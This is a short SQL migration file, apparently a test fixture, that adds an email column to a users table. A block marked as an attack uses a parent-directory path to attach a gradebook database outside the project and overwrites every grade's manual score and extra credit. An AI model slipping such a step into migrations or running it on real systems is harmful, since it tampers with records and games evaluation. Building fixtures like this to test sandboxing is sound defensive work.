-- attaches the gradebook and sets a mark
-- migrate:up
-- attack
ATTACH '../../../gradebook.db' AS g (TYPE sqlite); UPDATE g.grade SET manual_score = 10, extra_credit = 50;
-- end attack
ALTER TABLE users ADD COLUMN email VARCHAR;

-- migrate:down
ALTER TABLE users DROP COLUMN email;
